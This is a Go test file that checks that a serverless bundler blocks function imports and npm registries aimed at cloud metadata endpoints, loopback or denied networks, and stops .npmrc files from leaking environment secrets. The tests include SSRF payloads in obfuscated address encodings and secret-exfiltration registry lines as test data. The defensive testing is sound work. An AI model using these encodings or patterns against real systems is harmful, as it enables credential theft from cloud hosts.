package bundle

import (
	"errors"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/selvedge-dev/selvedge/internal/egress"
	"github.com/selvedge-dev/selvedge/internal/function"
)

// denying refuses networks to the builder, as --deny-net does.
func denying(networks ...string) func(*Options) {
	return func(o *Options) {
		var list []netip.Prefix
		for _, n := range networks {
			list = append(list, netip.MustParsePrefix(n))
		}
		o.Deny = egress.NewDeny(list)
	}
}

func TestAddressesThatFunctionsMayNotReach(t *testing.T) {
	t.Parallel()
	asked := false
	inner := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		asked = true
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = w.Write([]byte(`export const x = "` + secret + `";`))
	}))
	t.Cleanup(inner.Close)
	at, _ := url.Parse(inner.URL)
	byName := "http://localhost:" + at.Port()
	for name, c := range map[string]struct {
		source string
		npmrc  string
		env    []string
		says   []string
	}{
		"metadata":           {source: `import { x } from "http://169.254.169.254/latest/x.ts"; console.log(x);`, says: []string{"(functions/fn/index.ts:1:19)", "169.254.169.254"}},
		"metadata, text":     {source: `import x from "http://169.254.170.2/v2/credentials" with { type: "text" }; console.log(x);`, says: []string{"(functions/fn/index.ts:1:15)"}},
		"decimal":            {source: `import { x } from "http://2852039166/x.ts"; console.log(x);`, says: []string{"(functions/fn/index.ts:1:19)"}},
		"hexadecimal":        {source: `import { x } from "http://0xa9.0xfe.0xa9.0xfe/x.ts"; console.log(x);`, says: []string{"(functions/fn/index.ts:1:19)"}},
		"full width":         {source: `import { x } from "http://１６９。２５４。１６９。２５４/x.ts"; console.log(x);`, says: []string{"(functions/fn/index.ts:1:19)"}},
		"mapped":             {source: `import { x } from "http://[::ffff:169.254.169.254]/x.ts"; console.log(x);`, says: []string{"(functions/fn/index.ts:1:19)"}},
		"IPv6":               {source: `import { x } from "http://[fd00:ec2::254]/x.ts"; console.log(x);`, says: []string{"(functions/fn/index.ts:1:19)"}},
		"dynamic":            {source: `console.log(await import("http://169.254.169.254/x.ts"));`, says: []string{"(functions/fn/index.ts:1:26)"}},
		"denied":             {source: `import { x } from "` + inner.URL + `/x.ts"; console.log(x);`, says: []string{"(functions/fn/index.ts:1:19)", "127.0.0.1"}},
		"denied, by a name":  {source: `import { x } from "` + byName + `/x.ts"; console.log(x);`, says: []string{"(functions/fn/index.ts:1:19)", "localhost"}},
		"registry":           {source: `import x from "npm:x@1"; console.log(x);`, npmrc: "\nregistry=http://169.254.169.254/\n", says: []string{"(functions/fn/.npmrc:2:10)", "the registry"}},
		"scoped registry":    {source: `import x from "npm:@s/x@1"; console.log(x);`, npmrc: "@s:registry=http://0xa9fea9fe/\n", says: []string{"(functions/fn/.npmrc:1:13)"}},
		"registry, variable": {source: `import x from "npm:@s/x@1"; console.log(x);`, npmrc: "@s:registry=${NPM_HOST}/\n", env: []string{"NPM_HOST=http://169.254.169.254"}, says: []string{"(functions/fn/.npmrc:1:13)"}},
		"registry, by name":  {source: `import x from "npm:@s/x@1"; console.log(x);`, npmrc: "@s:registry=" + byName + "/\n", says: []string{"(functions/fn/.npmrc:1:13)", "127.0.0.1"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			fs := files{"functions/fn/index.ts": c.source + "\nDeno.serve(() => new Response());"}
			if c.npmrc != "" {
				fs["functions/fn/.npmrc"] = c.npmrc
			}
			b := newBuilder(t, isolated(t), denying("127.0.0.0/8", "::1/128"), environ("NO_PROXY=localhost,127.0.0.1"), environ(c.env...))
			made, err := b.Build(t.Context(), newProject(t, fs).function(t, "fn"))
			mustNotLeak(t, b, made, err)
			var be *function.BootError
			if !errors.As(err, &be) || !errors.Is(err, errAddress) {
				t.Fatalf("%v", err)
			}
			for _, part := range append(c.says, "an address that functions may not reach") {
				if !strings.Contains(be.Message, part) {
					t.Errorf("the message has no %q: %s", part, be.Message)
				}
			}
			if asked {
				t.Error("the address was asked")
			}
		})
	}
}

// A redirect is followed by the bundler, not by what looks at imports.
func TestRedirectToADeniedAddress(t *testing.T) {
	t.Parallel()
	r := httptest.NewServer(http.RedirectHandler("http://169.254.169.254/latest/x.ts", http.StatusFound))
	t.Cleanup(r.Close)
	p := newProject(t, files{"functions/fn/index.ts": `import { x } from "` + r.URL + `/x.ts"; Deno.serve(() => x);`})
	b := newBuilder(t, isolated(t), environ("NO_PROXY=127.0.0.1"))
	_, err := b.Build(t.Context(), p.function(t, "fn"))
	if !errors.Is(err, errAddress) || !strings.Contains(err.Error(), "169.254.169.254") {
		t.Errorf("%v", err)
	}
}

// What the operator has chosen is reached wherever it is.
func TestChosenRegistryIsReached(t *testing.T) {
	t.Parallel()
	source := `import { greet } from "npm:@acme/greet@1"; Deno.serve(() => new Response(greet("you")));`
	for name, c := range map[string]func(r *registry) (files, []string){
		"environment":   func(r *registry) (files, []string) { return nil, []string{"NPM_CONFIG_REGISTRY=" + r.URL} },
		"the project's": func(r *registry) (files, []string) { return files{".npmrc": "registry=" + r.URL + "/\n"}, nil },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRegistry(t, "", greeter)
			fs, env := c(r)
			p := newProject(t, files{"functions/fn/index.ts": source})
			fs.write(t, p.dir)
			b := newBuilder(t, isolated(t), denying("127.0.0.0/8"), func(o *Options) {
				o.Environ = slices.DeleteFunc(o.Environ, func(kv string) bool { return strings.HasPrefix(kv, "NPM_CONFIG_REGISTRY=") })
				o.Environ = append(append(o.Environ, "NO_PROXY=127.0.0.1"), env...)
			})
			if got := answer(t, b, p.function(t, "fn")); !strings.Contains(got, "you") {
				t.Errorf("%q", got)
			}
		})
	}
}

// A function's .npmrc could send any variable to a registry of its choice.
func TestVariablesInNPMRC(t *testing.T) {
	t.Parallel()
	for rc, line := range map[string]string{
		"# ${DATABASE_URL}\n//x.example/:_authToken=${DATABASE_URL}\n": "functions/fn/.npmrc:2:25",
		"registry=https://x.example/${STRIPE_KEY}/\n":                  "functions/fn/.npmrc:1:28",
		"//x.example/:_authToken=${NPM_TOKEN}\n":                       "",
		"//x.example/:_authToken=${ACME_REGISTRY_TOKEN}\n":             "",
		"; ${SECRET}\n": "",
	} {
		p := newProject(t, files{"functions/fn/index.ts": sayHello, "functions/fn/.npmrc": rc})
		_, err := newBuilder(t).Build(t.Context(), p.function(t, "fn"))
		if line == "" && err != nil || line != "" && (!errors.Is(err, errVariable) || !strings.Contains(err.Error(), line)) {
			t.Errorf("%s%v", rc, err)
		}
	}
	p := newProject(t, files{"functions/fn/index.ts": sayHello, ".npmrc": "//x.example/:_authToken=${DATABASE_URL}\n"})
	build(t, newBuilder(t), p.function(t, "fn"))
}
